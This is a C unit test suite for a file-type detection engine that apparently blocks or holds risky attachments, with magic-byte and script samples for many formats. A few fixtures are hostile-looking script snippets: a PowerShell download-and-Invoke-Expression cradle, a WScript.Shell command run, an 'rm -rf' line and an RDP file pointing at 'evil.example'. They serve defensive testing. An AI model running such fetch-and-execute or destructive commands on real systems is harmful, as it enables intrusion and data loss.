#include "engines/detect.h"
#include "fake_job.h"
#include "formats/formats.h"

#include <check.h>
#include <string.h>

typedef struct Row {
    MgkFormatId want;
    const char *name, *bytes;
    gsize size, pad; /* pad: filled up with zero bytes to this size */
} Row;

#define ROW(format, name, bytes, pad) \
    { \
        MGK_FORMAT_ID_##format, name, bytes, sizeof bytes - 1, pad \
    }
#define TEXT(format, name, text) ROW(format, name, text, 0)

static const Row rows[] = {
    ROW(executable, "a", "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff", 600),
    ROW(executable, "a", "\177ELF\2\1\1", 64),
    ROW(executable, "a", "\xca\xfe\xba\xbe\0\0\0\x34", 64),
    ROW(executable, "a", "\xcf\xfa\xed\xfe\7\0\0\1", 64),
    ROW(executable, "a", "dex\n035", 64),
    ROW(executable, "a", "\0asm\1", 64),
    ROW(executable, "a", "CWS\x0a\x40\1\0\0x", 64),
    TEXT(text, "a.txt", "MZ is the signature of programs, says the manual.\nMore of it.\n"),
    TEXT(text, "a.txt", "BM and PK and Rar are letters.\n"),
    TEXT(text, "a.txt", "II* is not always an image, BZh neither\n"),
    TEXT(script, "a", "#!/bin/sh\nrm -rf x\n"),
    TEXT(script, "a", "<?php echo 1; ?>"),
    TEXT(script, "a", "@echo off\r\ncalc\r\n"),
    TEXT(script, "a", "Attribute VB_Name = \"Module1\"\r\nSub x()\r\nEnd Sub\r\n"),
    TEXT(script, "a", "<job id=\"x\"><script language=\"JScript\">1</script></job>"),
    TEXT(script, "a", "<html><hta:application id=x><body></body></html>"),
    TEXT(script, "a", "\xff\xfe<\0?\0p\0h\0p\0 \0e\0"),
    TEXT(script, "a", "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"cmd.exe /c calc\");\nWScript.Quit();\n"),
    TEXT(script, "a", "$c = New-Object Net.WebClient;\n$c.DownloadString('http://x');\nInvoke-Expression $c;\n"),
    TEXT(text, "a.txt",
         "PowerShell の使い方\nInvoke-Expression は危険なので使わないでください。\nNew-Object "
         "も同じです。\n詳しくは担当まで\n"),
    TEXT(text, "a.txt",
         "To run the script type powershell.exe -File x and press enter.\nDo not use eval( in it.\nThank you"),
    ROW(shortcut, "a", "L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F", 100),
    TEXT(shortcut, "a", "[InternetShortcut]\r\nURL=file://x\r\n"),
    TEXT(shortcut, "a", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n"),
    TEXT(shortcut, "a", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"></libraryDescription>"),
    TEXT(shortcut, "a", "full address:s:evil.example\r\n"),
    ROW(installer, "a", "!<arch>\ndebian-binary   ", 100),
    ROW(disk, "a", "vhdxfile", 1024),
    ROW(chm, "a", "ITSF\3\0\0\0", 100),
    ROW(onenote, "a", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 100),
    TEXT(sylk, "a.txt", "ID;PWXL;N;E\r\nC;Y1;X1;K\"x\"\r\nE\r\n"),
    TEXT(sylk, "a.csv", "ID;P\nC;X1;Y1;E=1\n"),
    TEXT(csv, "a.csv", "ID;name\n1;x\n"),
    TEXT(dif, "a.csv", "TABLE\r\n0,1\r\n\"EXCEL\"\r\nVECTORS\r\n0,1\r\n"),
    TEXT(iqy, "a.txt", "WEB\r\n1\r\nhttp://x/y\r\n"),
    TEXT(rtf, "a.doc", "{\\rtf1\\ansi x}"),
    TEXT(html, "a", "<!DOCTYPE html><html></html>"),
    TEXT(html, "a.txt", "  \n<html><script>1</script></html>"),
    TEXT(html, "a", "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"></html>"),
    TEXT(mhtml, "a.mht", "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"),
    TEXT(svg, "a", "<!-- x --><svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
    TEXT(xml, "a", "<?xml version=\"1.0\"?><a/>"),
    TEXT(json, "a", "{\"a\": 1}"),
    TEXT(text, "a.txt", "{\"a\": 1}"),
    TEXT(eml, "a", "Received: from x\r\nFrom: a@b\r\nSubject: x\r\n\r\nbody"),
    TEXT(text, "a.txt", "From: a\nTo: b\nSubject: c\n\nMemo.\n"),
    TEXT(mbox, "a", "From a@b Mon Jan  1 00:00:00 2024\nFrom: a@b\n\nx\n"),
    TEXT(ics, "a", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"),
    TEXT(vcf, "a", "BEGIN:VCARD\r\n"),
    ROW(gif, "a", "GIF89a", 32),
    ROW(tiff, "a", "II*\0\x08\0\0\0", 32),
    ROW(bmp, "a", "BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0", 70),
    ROW(webp, "a", "RIFF\x10\0\0\0WEBPVP8 ", 40),
    ROW(heif, "a",
        "\0\0\0\x18"
        "ftypheic",
        40),
    ROW(ico, "a", "\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0", 64),
    ROW(wmf, "a", "\xd7\xcd\xc6\x9a", 64),
    ROW(eps, "a", "%!PS-Adobe-3.0 EPSF-3.0\n", 0),
    ROW(jp2, "a", "\0\0\0\x0cjP  \r\n\x87\n", 64),
    ROW(psd, "a", "8BPS\0\1", 64),
    ROW(sevenzip, "a", "7z\xbc\xaf'\x1c", 64),
    ROW(rar, "a", "Rar!\x1a\7\1\0", 64),
    ROW(gz, "a", "\x1f\x8b\x08\0", 64),
    ROW(bz2, "a", "BZh91AY&SY", 64),
    ROW(xz, "a",
        "\xfd"
        "7zXZ\0",
        64),
    ROW(zst, "a", "\x28\xb5\x2f\xfd", 64),
    ROW(lzh, "a", "\x20\x30-lh5-\1\0\0\0\1\0\0\0\0\0\0\0\x20\0", 64),
    ROW(cab, "a", "MSCF\0\0\0\0", 64),
    ROW(docuworks, "a", "\x60\x0e\x82\x43\x03", 64),
    ROW(attachecase, "a", "\0\0\0\x10_AttacheCaseData", 64),
    ROW(tnef, "a", "\x78\x9f\x3e\x22", 64),
    ROW(database, "a", "SQLite format 3\0", 64),
    ROW(cad, "a", "AC1032\0", 64),
    ROW(audio, "a", "ID3\3\0", 64),
    ROW(video, "a",
        "\0\0\0\x18"
        "ftypisom",
        64),
    ROW(font, "a", "wOF2\0\1\0\0", 64),
    ROW(NONE, "a", "\1\2\3\4\5\6\7\x08\x0e\x0f", 64),
};

START_TEST(test_recognise__content_decides)
{
    for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
        gsize size = MAX(rows[i].size, rows[i].pad);
        g_autofree guint8 *data = g_malloc0(size);
        memcpy(data, rows[i].bytes, rows[i].size);
        MgkFormatId got = mgk_detect(data, size, rows[i].name, NULL);
        ck_assert_msg(got == rows[i].want, "row %u (%s, %.20s): got %s", i,
                      mgk_format_info(rows[i].want) ? mgk_format_info(rows[i].want)->id : "nothing", rows[i].bytes,
                      got == MGK_FORMAT_ID_NONE ? "nothing" : mgk_format_info(got)->id);
    }
}
END_TEST

START_TEST(test_recognise__nothing_recognised_only_crosses)
{
    for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
        if (rows[i].want == MGK_FORMAT_ID_NONE ||
            !(mgk_format_info(rows[i].want)->flags & (MGK_FORMAT_NEVER | MGK_FORMAT_HELD)))
            continue;
        gboolean never = mgk_format_info(rows[i].want)->flags & MGK_FORMAT_NEVER;
        g_autoptr(FakeRun) run = fake_run_new();
        ck_assert(fake_run_clean(run, (const guint8 *)rows[i].bytes, rows[i].size, rows[i].name, rows[i].want, NULL));
        ck_assert_msg(run->outcome.verdict == (never ? MGK_VERDICT_BLOCKED : MGK_VERDICT_HELD), "row %u: %s", i,
                      mgk_verdict_name(run->outcome.verdict));
    }
}
END_TEST

START_TEST(test_recognise__short_and_cut_inputs_are_survived)
{
    for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
        for (gsize size = 0; size <= rows[i].size; size++) {
            g_autofree guint8 *data = g_memdup2(rows[i].bytes, size);
            mgk_detect(data, size, "a", NULL);
        }
    }
}
END_TEST

/* A probe that is spared when another one is surer must never be able to say more than it was spared for. */
START_TEST(test_recognise__no_probe_exceeds_its_most)
{
    static const char *const names[] = {"a.txt", "a.csv", "a.tsv", "a.log", "a"};
    static const char text[] = "一,二\r\n三,四\r\n";
    guint spared = 0;
    for (guint f = 0; f < MGK_N_FORMATS; f++) {
        const MgkHandler *handler = mgk_formats_handler((MgkFormatId)f);
        spared += handler->probe_most > 0;
        for (guint i = 0; handler->probe_most > 0 && i < G_N_ELEMENTS(names); i++) {
            g_autofree char *extension = mgk_detect_extension(names[i]);
            const MgkProbe probe = {
                .data = (const guint8 *)text, .size = sizeof text - 1, .extension = extension, .media_type = ""};
            guint got = handler->probe(&probe);
            ck_assert_msg(got <= handler->probe_most, "%s, %s: got %u want at most %u",
                          mgk_format_info((MgkFormatId)f)->id, names[i], got, handler->probe_most);
        }
    }
    ck_assert_uint_gt(spared, 0);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("recognise");
    TCase *tc = tcase_create("recognise");
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, test_recognise__content_decides);
    tcase_add_test(tc, test_recognise__nothing_recognised_only_crosses);
    tcase_add_test(tc, test_recognise__no_probe_exceeds_its_most);
    tcase_add_test(tc, test_recognise__short_and_cut_inputs_are_survived);
    suite_add_tcase(suite, tc);
    SRunner *runner = srunner_create(suite);
    srunner_run_all(runner, CK_NORMAL);
    int failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed != 0;
}
